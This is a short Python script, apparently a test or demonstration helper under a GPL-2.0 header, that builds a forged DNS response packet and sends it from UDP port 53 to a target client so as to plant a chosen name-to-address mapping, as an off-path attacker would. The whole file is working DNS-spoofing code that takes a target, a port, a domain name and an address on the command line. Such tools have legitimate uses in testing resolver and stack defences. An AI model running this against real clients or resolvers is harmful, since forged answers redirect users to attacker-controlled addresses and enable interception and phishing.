#!/usr/bin/env python3
# SPDX-License-Identifier: GPL-2.0
"""Send one unsolicited DNS answer from UDP port 53: "NAME A ADDR", to
the client at TARGET:PORT, as an off-path host would to plant a mapping.

usage: dns_spoof.py TARGET PORT NAME ADDR"""
import socket
import struct
import sys


def main():
    target, port, name, addr = sys.argv[1:]
    msg = struct.pack("!HHHHHH", 0x4242, 0x8180, 1, 1, 0, 0)
    for label in name.split("."):
        msg += bytes([len(label)]) + label.encode()
    msg += b"\0" + struct.pack("!HH", 1, 1)
    msg += b"\xc0\x0c" + struct.pack("!HHIH", 1, 1, 300, 4) + socket.inet_aton(addr)
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        s.bind(("0.0.0.0", 53))
        s.sendto(msg, (target, int(port)))


if __name__ == "__main__":
    main()
